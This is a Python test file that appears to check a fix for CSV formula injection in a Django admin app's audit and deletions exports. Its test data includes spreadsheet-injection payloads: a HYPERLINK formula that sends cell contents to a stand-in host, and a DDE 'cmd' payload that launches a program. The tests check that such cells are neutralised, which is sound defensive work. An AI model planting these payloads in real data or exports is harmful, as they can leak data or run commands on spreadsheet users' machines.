"""Finding 2: no CSV export hands a spreadsheet a formula to run.

Before, a failed-login user name ``=HYPERLINK(...)`` went raw into /audit/export.csv and file
names starting with ``=``, ``+``, ``-`` or ``@`` raw into the deletions export.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from models_admin.models import AuditEvent, PruneRequest
from models_admin.security.spreadsheet import FORMULA_STARTS, csv_lines, safe_cell

from .history_factories import at, host, prune

DANGEROUS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    line = "".join(csv_lines(["a"], [[f"{start}x"]])).splitlines()[1]
    assert not line.lstrip('"').startswith(start)


def test_plain_values_and_numbers_are_left_alone():
    assert [safe_cell(v) for v in ("en.gguf", "", 5, -3, 1.5, None, "a=b")] == [
        "en.gguf",
        "",
        5,
        -3,
        1.5,
        None,
        "a=b",
    ]


@pytest.mark.django_db
def test_the_audit_export_neutralises_a_failed_login_user_name(client_for, viewer):
    # The login form strips surrounding whitespace, so the tab and CR names arrive another way.
    for i, name in enumerate(DANGEROUS[:4]):
        Client().post(reverse("login"), {"username": name, "password": "x"}, REMOTE_ADDR=f"10.7.0.{i}")
    for name in DANGEROUS[4:]:
        AuditEvent.record(AuditEvent.Action.LOGIN_FAILED, actor=name)
    AuditEvent.record(AuditEvent.Action.HOST_RETIRED, actor="=cmd", host="@host")

    rows = _rows(client_for(viewer).get("/audit/export.csv"))

    cells = [cell for row in rows[1:] for cell in row]
    assert {f"'{name}" for name in DANGEROUS} <= set(cells)
    assert "'=cmd" in cells and "'@host" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
def test_the_deletions_export_neutralises_file_names_and_reasons(client_for, viewer, approver):
    files = [(f"models/{name}", 10, "deleted", 10) for name in ("=x.bin", "+y.bin", "-z.bin", "@w.bin")]
    prune(
        host("ocr-a"),
        [(name.removeprefix("models/"), size, outcome, freed) for name, size, outcome, freed in files],
        created_at=at("2026-03-02 09:00"),
        decided_by=approver,
        decided_at=at("2026-03-02 10:00"),
        finished_at=at("2026-03-02 11:00"),
        comment="=evil()",
        state=PruneRequest.State.COMPLETED,
    )

    rows = _rows(
        client_for(viewer).get(
            reverse("ocrdash-report-deletions-export", args=["csv"]) + "?start=2026-03-01&end=2026-03-31"
        )
    )

    header = rows[0]
    paths = sorted(row[header.index("path")] for row in rows[1:])
    assert paths == ["'+y.bin", "'-z.bin", "'=x.bin", "'@w.bin"]
    assert {row[header.index("comment")] for row in rows[1:]} == {"'=evil()"}
    assert not [c for row in rows[1:] for c in row if c.startswith(FORMULA_STARTS)]
